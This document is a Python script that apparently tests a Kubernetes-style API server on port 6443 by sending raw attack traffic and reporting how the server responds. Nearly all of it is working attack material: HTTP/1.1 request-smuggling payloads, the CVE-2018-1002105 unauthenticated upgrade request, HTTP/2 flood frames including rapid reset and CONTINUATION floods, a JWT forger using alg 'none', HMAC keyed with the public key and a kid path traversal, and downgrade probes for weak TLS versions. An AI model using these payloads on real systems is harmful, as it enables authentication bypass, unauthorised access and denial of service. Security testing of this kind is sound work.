#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""What no client library sends: api_raw.py HOST WAY [CASE...] does it to the API server and says what came of it, a line "CASE: ..."
each; without cases, all of that way. The token is "admintoken".   api_raw.py HOST forge TOKEN KEY-FILE makes JWTs that nobody signed."""
import base64, hashlib, hmac, json, re, socket, ssl, struct, sys, warnings

HOST = sys.argv[1]
AUTH = b'Host: x\r\nAuthorization: Bearer admintoken\r\n'


def connect(alpn='http/1.1'):
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.set_alpn_protocols([alpn])
    return c.wrap_socket(socket.create_connection((HOST, 6443), timeout=10))


def read_all(s):
    data = b''
    try:
        while part := s.recv(65536): data += part
    except (OSError, ssl.SSLError): pass
    return data


# --- HTTP/1.1: one request that two parsers could cut differently, and behind it another one
def answers(raw):
    """The status of each answer, and whether the server ended the connection by itself."""
    s = connect()
    s.settimeout(1)
    s.sendall(raw)
    try:
        data = b''
        while part := s.recv(65536): data += part
        end = 'closed'
    except TimeoutError: end = 'open'
    except (OSError, ssl.SSLError): end = 'closed'
    return ' '.join(re.findall(r'HTTP/1\.1 (\d+)', data.decode('latin-1')) + [end])


HIDDEN = b'GET /api/v1/namespaces HTTP/1.1\r\n' + AUTH + b'\r\n'
SMUGGLED = {
    'length and chunked': b'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'chunked and length': b'Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n',
    'two lengths': b'Content-Length: 3\r\nContent-Length: 4\r\n\r\nabc',
    'the same length twice': b'Content-Length: 3\r\nContent-Length: 3\r\n\r\nabc',
    'a list of lengths': b'Content-Length: 3, 3\r\n\r\nabc',
    'a signed length': b'Content-Length: +3\r\n\r\nabc',
    'a length with a blank before the colon': b'Content-Length : 3\r\n\r\nabc',
    'two encodings': b'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'an encoding behind chunked': b'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n',
    'an encoding in disguise': b'Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n',
    'a folded line': b'Content-Length: 0\r\n Transfer-Encoding: chunked\r\n\r\n',
    'a folded encoding': b'Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n',
    'a bare LF': b'X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'a bare CR': b'X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'a NUL': b'X: y\0z\r\n\r\n',
    'a chunk size of another form': b'Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n',
    'a chunk that ends with LF': b'Transfer-Encoding: chunked\r\n\r\n1\r\na\n0\r\n\r\n',
    'a second Host': b'Host: y\r\n\r\n',
}


def smuggle(name):
    return answers(b'POST /api/v1/namespaces HTTP/1.1\r\n' + AUTH + SMUGGLED[name] + HIDDEN)


def upgrade(path):
    """An upgrade that is not done, then a request without credentials on the same connection (CVE-2018-1002105)."""
    return answers(f'GET {path} HTTP/1.1\r\n'.encode() + AUTH + b'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n'
                   b'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\nGET /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')


# --- HTTP/2: frames by hand (RFC 9113, 7541)
HEADERS, RST, SETTINGS, PING, GOAWAY, CONTINUATION, DATA, PRIORITY = 1, 3, 4, 6, 7, 9, 0, 2


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes((kind, flags)) + struct.pack('>I', stream) + payload


def literal(name, value):
    return b'\0' + bytes((len(name),)) + name + bytes((len(value),)) + value


def head(method=b'GET', path=b'/api/v1/namespaces', *more):
    fields = ((b':method', method), (b':path', path), (b':scheme', b'https'), (b':authority', b'x'), (b'authorization', b'Bearer admintoken'))
    return b''.join(literal(*f) for f in fields + more)


def frames(data):
    while len(data) >= 9:
        n = int.from_bytes(data[:3], 'big')
        yield data[3], int.from_bytes(data[5:9], 'big') & 0x7fffffff, data[9:9 + n]
        data = data[9 + n:]


FLOODS = {
    'resets': lambda: b''.join(frame(HEADERS, 5, i, head()) + frame(RST, 0, i, b'\0\0\0\x08') for i in range(1, 10001, 2)),
    'continuations': lambda: frame(HEADERS, 1, 1, head()) + frame(CONTINUATION, 0, 1, literal(b'x', b'y' * 100)) * 5000,
    'empty continuations': lambda: frame(HEADERS, 1, 1, head()) + frame(CONTINUATION, 0, 1) * 5000,
    'settings': lambda: frame(SETTINGS, 0, 0, b'\0\x04\0\1\0\0') * 5000,
    'pings': lambda: frame(PING, 0, 0, b'12345678') * 5000,
    'priorities': lambda: frame(PRIORITY, 0, 1, b'\0\0\0\0\0') * 5000,
    'empty data': lambda: frame(HEADERS, 4, 1, head(b'POST')) + frame(DATA, 0, 1) * 5000,
}


def flood(name):
    """Ends with the server's GOAWAY and its error code, or with the end of the connection."""
    s = connect('h2')
    try: s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0) + FLOODS[name]())
    except (OSError, ssl.SSLError): pass
    s.settimeout(3)
    for kind, _, payload in frames(read_all(s)):
        if kind == GOAWAY and payload[4:8] != b'\0\0\0\0': return f'cut, {int.from_bytes(payload[4:8], "big")}'
    try:
        s.send(b'x')
        return 'still held' if s.recv(1) else 'cut'
    except TimeoutError: return 'still held'
    except (OSError, ssl.SSLError): return 'cut'


def h2_answer(block, *more):
    """Of one stream: its status, or that it was reset."""
    s = connect('h2')
    s.settimeout(2)
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0) + frame(HEADERS, 4 if more else 5, 1, block) + b''.join(more))
    data = b''
    while True:
        try: part = s.recv(65536)
        except (OSError, ssl.SSLError): part = b''
        data += part
        for kind, stream, payload in frames(data):
            if stream == 1 and kind == RST: return 'reset'
            # an indexed :status 200 is 0x88 (RFC 7541 appendix A)
            if stream == 1 and kind == HEADERS: return 'served' if payload[:1] == b'\x88' else 'refused'
        if not part: return 'closed'


H2 = {
    'a fair request': lambda: h2_answer(head()),
    'transfer-encoding': lambda: h2_answer(head(b'POST', b'/api/v1/namespaces', (b'transfer-encoding', b'chunked')), frame(DATA, 1, 1, b'0\r\n\r\n')),
    'connection': lambda: h2_answer(head(b'GET', b'/api/v1/namespaces', (b'connection', b'upgrade'))),
    'a shorter body than its length': lambda: h2_answer(head(b'POST', b'/api/v1/namespaces', (b'content-length', b'9')), frame(DATA, 1, 1, b'{}')),
    'a longer body than its length': lambda: h2_answer(head(b'POST', b'/api/v1/namespaces', (b'content-length', b'1')), frame(DATA, 1, 1, b'{}')),
    'a line break in a value': lambda: h2_answer(head(b'GET', b'/api/v1/namespaces', (b'x', b'y\r\nz: w'))),
    'two paths': lambda: h2_answer(head(b'GET', b'/api/v1/namespaces', (b':path', b'/readyz'))),
}


# --- JWT: claims that a real token carries, under headers and signatures that nobody made
def encode(b): return base64.urlsafe_b64encode(b).rstrip(b'=').decode()


def forge(token, public_key_file):
    header, claims, signature = token.split('.')
    head_of = lambda **h: encode(json.dumps(h).encode())
    kid = json.loads(base64.urlsafe_b64decode(header + '==')).get('kid')
    key = open(public_key_file, 'rb').read()
    mac = lambda h: f'{h}.{claims}.' + encode(hmac.new(key, f'{h}.{claims}'.encode(), hashlib.sha256).digest())
    longer = encode(base64.urlsafe_b64decode(claims + '==').replace(b'"exp":', b'"exp":9'))
    return {
        'none': f'{head_of(alg="none")}.{claims}.', 'None with a signature': f'{head_of(alg="None", kid=kid)}.{claims}.{signature}',
        'HMAC by the public key': mac(head_of(alg='HS256', kid=kid)), 'a signature of zeros': f'{header}.{claims}.{encode(bytes(64))}',
        'a signature in DER': f'{header}.{claims}.{encode(b"0" + bytes(70))}', 'no signature': f'{header}.{claims}.',
        'another algorithm': f'{head_of(alg="RS256", kid=kid)}.{claims}.{signature}', 'other claims': f'{header}.{longer}.{signature}',
        'a key file for a kid': mac(head_of(alg='HS256', kid='../../../../dev/null')),
        'a key of its own': f'{head_of(alg="ES256", jwk={"kty": "EC"}, kid="x")}.{claims}.{signature}',
        'what must be understood': f'{head_of(alg="ES256", kid=kid, crit=["b64"], b64=False)}.{claims}.{signature}',
        'the payload twice': f'{header}.{claims}.{claims}.{signature}',
    }


def tls(case):
    version, _, ciphers = case.partition(' ')
    warnings.simplefilter('ignore')
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.set_ciphers((ciphers or 'ALL') + ':@SECLEVEL=0')
    c.minimum_version = c.maximum_version = getattr(ssl.TLSVersion, version)
    try: return c.wrap_socket(socket.create_connection((HOST, 6443), timeout=5)).version()
    except (OSError, ssl.SSLError): return 'refused'


WAYS = {'smuggle': (smuggle, SMUGGLED), 'upgrade': (upgrade, ()), 'flood': (flood, FLOODS), 'h2': (lambda name: H2[name](), H2),
        'tls': (tls, ('TLSv1', 'TLSv1_1', 'TLSv1_2', 'TLSv1_3'))}
if sys.argv[2] == 'forge':
    for how, made in forge(*sys.argv[3:]).items(): print(f'{how}: {made}')
else:
    do, known = WAYS[sys.argv[2]]
    for case in sys.argv[3:] or known: print(f'{case}: {do(case)}')
